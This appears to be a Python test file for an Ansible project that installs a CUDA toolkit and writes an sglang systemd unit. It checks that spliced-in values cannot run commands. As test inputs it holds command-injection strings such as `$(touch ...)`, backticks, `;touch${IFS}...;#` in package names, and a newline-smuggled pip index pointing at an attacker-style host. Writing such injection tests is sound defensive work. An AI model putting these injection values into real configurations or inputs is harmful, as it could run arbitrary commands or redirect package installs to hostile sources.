"""Values spliced into the cuda_toolkit bash task and into the sglang_server unit stay one word each and run nothing.

Rendered by a real `ansible-playbook` (connection local, no root, no container, no systemd start): the toolkit's
pip arguments are expanded by bash exactly as the task's script does, and the unit is checked by
`systemd-analyze verify` (when this machine has it) and by systemd's quoting rules (systemd.syntax(7)). Last, the
reliability probe's hostile inputs (section 10) are refused by `site.yml --check --tags preflight_validate` at once.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from pathlib import Path

from lab.local_play import local_play

ROOT = Path(__file__).resolve().parents[2]
ANSIBLE = str(Path(sys.executable).parent / "ansible-playbook")


_play = local_play


TOOLKIT_PLAY = """---
- name: Render the toolkit's pip arguments
  hosts: localhost
  connection: local
  gather_facts: false
  vars_files:
    - "{{ root }}/roles/cuda_toolkit/vars/main.yml"
  tasks:
    - name: Write them as the bash task splices them in
      ansible.builtin.copy:
        content: "{{ _cuda_toolkit_pip_source }}"
        dest: "{{ out }}"
        mode: "0644"
"""


def test_toolkit_pip_arguments_are_one_word_each(tmp_path: Path) -> None:
    marker = tmp_path / "pwned"
    cases = {
        "index": {
            "cuda_toolkit_wheelhouse": "",
            "cuda_toolkit_index_url": f"https://a.invalid/$(touch {marker})",
            "cuda_toolkit_extra_index_urls": ["https://b.invalid/simple x", f"`touch {marker}`"],
            "cuda_toolkit_components": {
                f"nvidia-cuda-nvcc;touch${{IFS}}{marker};#": "13.0.88",
                "nvidia-nvvm": "13.0.88",
            },
        },
        "wheelhouse": {
            "cuda_toolkit_wheelhouse": f"/srv/wheel house/$(touch {marker})",
            "cuda_toolkit_index_url": "",
            "cuda_toolkit_extra_index_urls": [],
            "cuda_toolkit_components": {"nvidia-nvvm": "13.0.88"},
        },
    }
    expected = {
        "index": [
            "--index-url",
            f"https://a.invalid/$(touch {marker})",
            "--extra-index-url=https://b.invalid/simple x",
            f"--extra-index-url=`touch {marker}`",
            f"nvidia-cuda-nvcc;touch${{IFS}}{marker};#==13.0.88",
            "nvidia-nvvm==13.0.88",
        ],
        "wheelhouse": [
            "--no-index",
            "--find-links",
            f"/srv/wheel house/$(touch {marker})/toolkit",
            "--require-hashes",
            "-r",
            f"/srv/wheel house/$(touch {marker})/toolkit.txt",
        ],
    }
    for name, variables in cases.items():
        out = tmp_path / f"{name}.args"
        result = _play(tmp_path, TOOLKIT_PLAY, {**variables, "root": str(ROOT), "out": str(out)})
        assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
        script = f"set -euo pipefail\nprintf '%s\\0' {out.read_text()}\n"
        words = subprocess.run(["bash", "-c", script], capture_output=True, check=True, timeout=60).stdout
        assert words.decode().split("\0")[:-1] == expected[name]
    assert not marker.exists()


def _systemd_words(line: str) -> list[str]:
    """ExecStart words as systemd reads them: quotes, C escapes, then %% and $$ (systemd.service(5))."""
    words: list[str] = []
    i = 0
    while i < len(line):
        if line[i] == " ":
            i += 1
            continue
        word, quoted = "", line[i] == '"'
        i += quoted
        while i < len(line) and (quoted or line[i] != " "):
            ch = line[i]
            if quoted and ch == '"':
                i += 1
                break
            if ch == "\\":
                nxt = line[i + 1]
                word += {"n": "\n", "r": "\r", "t": "\t"}.get(nxt, nxt)
                i += 2
                continue
            word += ch
            i += 1
        words.append(word)
    return [w.replace("%%", "%").replace("$$", "$") for w in words]


def test_sglang_unit_keeps_every_argument_and_environment_value(tmp_path: Path) -> None:
    (tmp_path / "units").mkdir()
    (tmp_path / "doctor.json").write_text(json.dumps({"schema": "sm120check.doctor/1", "results": []}))
    args = ["--x", ";", "a\nb", "100%", "%n", "${PATH}", "$PATH", "ünï", "", 'it\'s "q" \\n `id`']
    env = {"A": "x$HOME`id`\"\\y ' %n", "B": "two  spaces"}
    model = "/models/a b$HOME%n\"'`x`\\z;"
    result = _play(
        tmp_path,
        "- hosts: localhost\n  connection: local\n  gather_facts: false\n  roles: [sglang_server]\n",
        {
            "sglang_server_model_path": model,
            "sglang_server_speculative": False,
            "sglang_server_python": "/bin/true",
            "sglang_server_config_dir": str(tmp_path / "etc"),
            "sglang_server_unit_dir": str(tmp_path / "units"),
            "sglang_server_doctor_report": str(tmp_path / "doctor.json"),
            "sglang_server_extra_args": args,
            "sglang_server_env": env,
        },
        "--tags",
        "sglang_server_configure",
    )
    assert result.returncode == 0, result.stdout[-3000:] + result.stderr[-3000:]
    unit = tmp_path / "units" / "sglang-server.service"
    lines = unit.read_text().splitlines()
    (exec_start,) = (line for line in lines if line.startswith("ExecStart="))
    words = _systemd_words(exec_start.removeprefix("ExecStart="))
    assert words[:5] == ["/bin/true", "-m", "sglang.launch_server", "--model-path", model]
    assert words[-len(args) :] == args
    assert lines.index(exec_start) + 1 < len(lines) and lines[lines.index(exec_start) + 1] == "Restart=on-failure"
    environment = (tmp_path / "etc" / "environment").read_text().splitlines()
    assert 'A="x\\$HOME\\`id\\`\\"\\\\y \' %n"' in environment
    assert 'B="two  spaces"' in environment
    if not shutil.which("systemd-analyze"):
        assert not os.environ.get("CI"), "CI must have systemd's own parser (Debian's systemd package) for this test"
    else:
        check = subprocess.run(
            ["systemd-analyze", "verify", str(unit)], capture_output=True, text=True, check=False, timeout=120
        )
        assert "quoting" not in check.stderr.lower() and "specifier" not in check.stderr.lower(), check.stderr


def test_sglang_unit_refuses_names_and_values_it_cannot_hold(tmp_path: Path) -> None:
    (tmp_path / "units").mkdir()
    result = _play(
        tmp_path,
        "- hosts: localhost\n  connection: local\n  gather_facts: false\n  roles: [sglang_server]\n",
        {
            "sglang_server_model_path": "/models/m",
            "sglang_server_speculative": False,
            "sglang_server_config_dir": str(tmp_path / "etc"),
            "sglang_server_unit_dir": str(tmp_path / "units"),
            "sglang_server_doctor_report": str(tmp_path / "doctor.json"),
            "sglang_server_env": {"BAD-NAME": "1", "OK": "a\nb"},
        },
        "--tags",
        "sglang_server_configure",
    )
    assert result.returncode != 0
    assert 'sglang_server_env names shell identifiers (not: "BAD-NAME")' in result.stdout
    assert not (tmp_path / "units" / "sglang-server.service").exists()


PROBE_INPUTS = {
    "sm120kit_env_overrides": {"TORCH_CUDA_ARCH_LIST": "9.0 12.0", "EVIL": "x}$(id)", "FOO\n": "1", "NL": "a\nb"},
    "sm120kit_cuda_components": {"nvidia-cuda-nvcc;touch${IFS}PWN;#": "13.0.88"},
    "sm120kit_extra_python_packages": {
        "x\n--extra-index-url http://attacker.invalid/simple\ny": "1.0",
        "torch": "2.14.1+cpu",
    },
    "sm120kit_venv": "/usr",
    "sm120kit_cuda_home": "/usr",
    "sm120kit_doctor_level": 7,
    "sm120kit_cuda_version": "13.0.1\n",
}
PROBE_MESSAGES = [
    "sm120kit_cuda_version: '13.0.1\\n' is not a full release number",
    "sm120kit_cuda_components: 'nvidia-cuda-nvcc;touch${IFS}PWN;#' is not a package name",
    "python package 'x\\n--extra-index-url http://attacker.invalid/simple\\ny'",
    "python package 'torch': '2.14.1+cpu' is not a CUDA 13 build",
    "sm120kit_venv: '/usr' is a system directory",
    "sm120kit_cuda_home: '/usr' is a system directory",
    "sm120kit_env_overrides: 'FOO\\n' is not a valid environment variable name",
    "sm120kit_env_overrides['NL']: the value contains a newline",
    "sm120kit_doctor_level: 7 is not a doctor level",
]


def test_preflight_refuses_the_probe_inputs_at_once(tmp_path: Path) -> None:
    """`site.yml --check --tags preflight_validate` on this machine: asserts on the control node only, no change."""
    (tmp_path / "bad.json").write_text(json.dumps(PROBE_INPUTS))
    result = subprocess.run(
        [ANSIBLE, "site.yml", "--check", "--tags", "preflight_validate", "-e", f"@{tmp_path / 'bad.json'}"],
        cwd=ROOT,
        capture_output=True,
        text=True,
        check=False,
        timeout=300,
        env={**os.environ, "ANSIBLE_NOCOLOR": "1"},
    )
    assert result.returncode != 0, result.stdout[-3000:]
    assert "nothing was changed" in result.stdout
    for message in PROBE_MESSAGES:
        assert message in result.stdout, message + "\n" + result.stdout[-4000:]
    # The values that are only unusual, not wrong, pass: a space-separated arch list and shell text are data.
    assert "TORCH_CUDA_ARCH_LIST" not in result.stdout and "EVIL" not in result.stdout
